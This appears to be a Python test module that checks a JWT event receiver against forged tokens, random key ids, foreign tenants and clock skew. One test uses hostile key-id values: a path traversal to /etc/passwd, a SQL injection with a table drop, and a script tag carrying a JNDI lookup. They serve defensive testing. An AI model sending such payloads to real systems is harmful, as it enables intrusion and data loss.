"""Rows 12 to 15: tokens that are not what they say, and clocks that are not right."""

from __future__ import annotations

import asyncio
import hashlib
import itertools
import random
import time
from collections.abc import Iterator
from typing import Any, Final

import orjson

from tests.emulator import forgeries
from tests.emulator.deliveries import Outgoing, Parcel, Verdict
from tests.emulator.forgeries import (
    FOREIGN,
    MALFORMED,
    NOT_DURABLE,
    OVERLOADED,
    QUARANTINED,
    UNKNOWN_KEY,
    Forger,
)
from tests.emulator.key_server import LIVE_EVENTS_PATH
from tests.emulator.school import School, timed
from tests.faults.grounds import Grounds
from tests.faults.judging import settle_and_judge
from tests.faults.site import Site, event_request
from tests.faults.verdict import Tally
from tests.faults.waiting import until
from tests.support.keys import SigningKey, base64url

COOLDOWN_S: Final = 3.0
RANDOM_KIDS: Final = 10_000
QUICK_RANDOM_KIDS: Final = 3_000
FLOOD_AT_ONCE: Final = 500
STRANGERS: Final = 5
EVENTS_OF_A_STRANGER: Final = 3
LEEWAY_S: Final = 300
HOUR_S: Final = 3_600
SIGNATURE_BYTES: Final = 256
LATEST_TOKENS: Final = 64
CLOCK_AHEAD_S: Final = 600


async def random_kids(grounds: Grounds, seed: int) -> Tally:
    """A flood of tokens with key ids out of thin air, and two rotations in the middle of it."""
    rng = random.Random(seed)
    least = QUICK_RANDOM_KIDS if grounds.quick else RANDOM_KIDS
    async with grounds.site(seed, brokers=0) as site:
        before = site.canvas.key_server.requests[LIVE_EVENTS_PATH]
        began, ended = time.monotonic(), asyncio.Event()
        flood = asyncio.create_task(
            # more than may wait for keys, so that the answers come as fast as the requests
            site.send(_with_random_kids(site, rng, least, ended), concurrency=FLOOD_AT_ONCE)
        )
        for _ in range(4):
            report = await site.canvas.send_events(
                site.url, count=100, rate=100, retries=60, resign_retries=True
            )
            site.expect(
                report.not_accepted == 0, f"genuine events were not accepted: {report.examples}"
            )
            await site.canvas.rotate_keys()  # twice is beyond what any cache can know
        ended.set()
        await flood
        fetches = site.canvas.key_server.requests[LIVE_EVENTS_PATH] - before
        allowed = (time.monotonic() - began) / COOLDOWN_S + 1
        site.expect(
            fetches <= allowed, f"{fetches} fetches, where the cooldown allows {allowed:.1f}"
        )
        _expect_none_refused(site)
        return await settle_and_judge(site)


async def every_forgery(grounds: Grounds, seed: int) -> Tally:
    """Every kind of forgery that the emulator knows, between genuine events."""
    async with grounds.site(seed, brokers=0) as site:
        await site.canvas.send_events(site.url, count=200, forged_share=0.5)
        await site.canvas.send_notices(site.url, count=60, batch=3, forged_share=1.0)
        await site.canvas.send_forgeries(site.url)
        await _expect_counted(site)
        _expect_none_refused(site)
        return await settle_and_judge(site)


async def odd_headers(grounds: Grounds, seed: int) -> Tally:
    """Key ids that are paths, SQL, scripts and a megabyte; a token inside of a token."""
    async with grounds.site(seed, brokers=0) as site:
        await site.send(_odd_tokens(site))
        await site.canvas.send_events(site.url, count=50)
        await _expect_counted(site)
        _expect_none_refused(site)
        return await settle_and_judge(site)


async def other_schools(grounds: Grounds, seed: int) -> Tally:
    """Genuine signatures over another school's account, client or deployment."""
    async with grounds.site(seed, brokers=0) as site:
        requests = list(_foreign(site, seed))
        await site.send(requests)
        await site.canvas.send_events(site.url, count=50)
        await site.canvas.send_notices(site.url, count=20)
        ledger = await site.ledger()
        refused = ledger.outcome("rejected", "tenant_not_allowed")
        site.expect(
            refused == len(requests), f"{refused} of {len(requests)} were counted as foreign"
        )
        _expect_none_refused(site)
        return await settle_and_judge(site)


async def moved_clocks(grounds: Grounds, seed: int) -> Tally:
    """Clocks ahead and behind, up to the edge of the leeway and over it; and the year 2038."""
    beyond = HOUR_S + LEEWAY_S  # how old a token is whose time and leeway are over
    good = [-600, 600, HOUR_S, beyond - 20, int(time.time()) - 2**31, int(time.time()) - 2**33]
    bad = [beyond + 20, HOUR_S + 600, 30 * 24 * HOUR_S, int(time.time())]
    async with grounds.site(seed, brokers=0) as site:
        requests = [_aged(site, number, age_s) for number, age_s in enumerate(good)]
        late = [
            _aged(site, len(good) + number, age_s, QUARANTINED) for number, age_s in enumerate(bad)
        ]
        await site.send([*requests, *late])
        expired = (await site.ledger()).outcome("quarantined", "expired")
        site.expect(expired == len(bad), f"{expired} of {len(bad)} were quarantined as expired")
        site.expect(not site.witness.not_accepted, "a token within its time was not accepted")
        return await settle_and_judge(site)


async def clock_behind(grounds: Grounds, seed: int) -> Tally:
    """Canvas's clock runs ten minutes ahead of the receiver's: nothing is refused, and it tells."""
    told = "events are signed in the future: is this machine's clock behind?"
    async with grounds.site(seed, brokers=0) as site:
        await site.canvas.send_events(site.url, count=LATEST_TOKENS)
        calm_s = await _clock_skew_s(site)
        site.expect(0 <= calm_s < CLOCK_AHEAD_S, f"the skew was {calm_s} s before")
        ahead = [_aged(site, number, -CLOCK_AHEAD_S) for number in range(LATEST_TOKENS)]
        await site.send(ahead)
        skew_s = await _clock_skew_s(site)
        site.expect(abs(skew_s + CLOCK_AHEAD_S) < 30, f"the skew was {skew_s} s")
        await until(lambda: any(line["event"] == told for line in site.receiver.logged("warning")))
        _expect_none_refused(site)
        return await settle_and_judge(site)


async def _clock_skew_s(site: Site) -> float:
    metrics = await site.metrics()
    issuer = site.canvas.school.live_events_issuer
    return metrics.value("forebay_clock_skew_seconds", issuer=issuer)


def _expect_none_refused(site: Site) -> None:
    refused = dict(site.witness.refused_genuine)
    site.expect(not refused, f"genuine events were refused: {refused}")


async def _expect_counted(site: Site) -> None:
    """The ledger names as many refusals of each reason as were answered."""
    ledger = await site.ledger()
    reasons = {reason for _, outcome, reason in ledger.settled if outcome == "rejected"}
    counted = {reason: ledger.outcome("rejected", reason) for reason in reasons}
    answered = {
        reason: sum(n for (_, said), n in site.witness.said.items() if said == reason)
        for reason in reasons
    }
    site.expect(counted and counted == answered, f"counted {counted}, answered {answered}")


def _with_random_kids(
    site: Site, rng: random.Random, least: int, ended: asyncio.Event
) -> Iterator[Outgoing]:
    """Tokens that only a look at the key set can refuse: all is right but key and signature."""
    wrong = (UNKNOWN_KEY, OVERLOADED, NOT_DURABLE)
    school, now_s = site.canvas.school, int(time.time())
    events = [school.live_event(number, name="logged_in", stream="flood") for number in range(50)]
    payloads = [orjson.dumps(timed(event.claims, now_s)) for event in events]
    keys = [event.content_key() for event in events]
    for number in itertools.count():
        if number >= least and ended.is_set():
            return
        header = {"alg": "RS256", "typ": "JWT", "kid": f"{rng.getrandbits(64):016x}"}
        which = number % len(events)
        parts = (orjson.dumps(header), payloads[which], rng.randbytes(SIGNATURE_BYTES))
        token = ".".join(map(base64url, parts)).encode()
        yield event_request(token, name="random_kid", content_key=keys[which], expected=wrong)


def _odd_tokens(site: Site) -> Iterator[Outgoing]:
    ours = site.canvas.keys.live_events.current
    stranger = SigningKey.generate("stranger")
    kids: dict[str, tuple[Any, Verdict]] = {
        "path": ("../../../../../../etc/passwd", UNKNOWN_KEY),
        "address": ("https://keys.example.net/jwks#" + ours.kid, UNKNOWN_KEY),
        "sql": ("' or '1'='1' union select null; drop table record; --", UNKNOWN_KEY),
        "markup": ("<script>${jndi:ldap://example.net/a}</script>", UNKNOWN_KEY),
        "null_byte": (ours.kid + "\0", UNKNOWN_KEY),
        "upper_case": (ours.kid.lower(), UNKNOWN_KEY),
        "megabyte": ("k" * 1_000_000, MALFORMED),
        "number": (1, MALFORMED),
        "null": (None, MALFORMED),
        "list": ([ours.kid], MALFORMED),
        "empty": ("", MALFORMED),
    }
    for number, (name, (kid, right)) in enumerate(kids.items()):
        event = site.canvas.school.live_event(number, stream="odd")
        token = stranger.sign(timed(event.claims, int(time.time())), headers={"kid": kid})
        excusable = (OVERLOADED, NOT_DURABLE) if right is UNKNOWN_KEY else ()
        yield event_request(
            token.encode(),
            name=f"kid_{name}",
            content_key=event.content_key(),
            expected=(right, *excusable),
        )
    yield from _nested(site, ours)


def _nested(site: Site, key: SigningKey) -> Iterator[Outgoing]:
    """A genuine token as the payload of another: what is signed is a text, and no claims."""
    event = site.canvas.school.live_event(100, stream="odd")
    inner = event.token(key, int(time.time())).encode()
    for name, payload in (("bare", inner), ("quoted", orjson.dumps(inner.decode()))):
        header = {"alg": "RS256", "typ": "JWT", "cty": "JWT", "kid": key.kid}
        token = key.sign_text(orjson.dumps(header), payload).encode()
        yield event_request(
            token,
            name=f"nested_{name}",
            # nobody can read claims in it, so it is kept apart under its own hash
            content_key=hashlib.sha256(token).hexdigest(),
            expected=(QUARANTINED,),
        )


def _foreign(site: Site, seed: int) -> Iterator[Outgoing]:
    kinds = [
        kind
        for kind in (*forgeries.live_events(), *forgeries.notices())
        if kind.expected == (FOREIGN,)
    ]
    keys = site.canvas.keys
    for stranger in range(1, STRANGERS + 1):
        for number in range(EVENTS_OF_A_STRANGER):
            for kind in kinds:
                lanes = (keys.live_events.current, keys.platform.current)
                key, key_elsewhere = lanes if kind.lane == "live-events" else lanes[::-1]
                forger = Forger(
                    key=key,
                    key_elsewhere=key_elsewhere,
                    other_key=key,
                    school=site.canvas.school,
                    stranger=School.from_seed(seed + stranger, name="stranger"),
                    now_s=int(time.time()),
                )
                forged = kind.make(forger, stranger * 1_000 + number)
                assert forged.message is not None
                parcel = Parcel(
                    role="forgery",
                    name=kind.name,
                    content_key=forged.message.content_key(),
                    expected=kind.expected,
                )
                yield Outgoing(
                    lane=kind.lane,
                    body=kind.body(forged),
                    content_type="application/json",
                    parcels=(parcel,),
                )


def _aged(site: Site, number: int, age_s: int, *expected: Verdict) -> Outgoing:
    event = site.canvas.school.live_event(number, stream="aged")
    return event_request(
        site.signed(event, age_s=age_s),
        name=event.name,
        content_key=event.content_key(),
        expected=expected,
    )
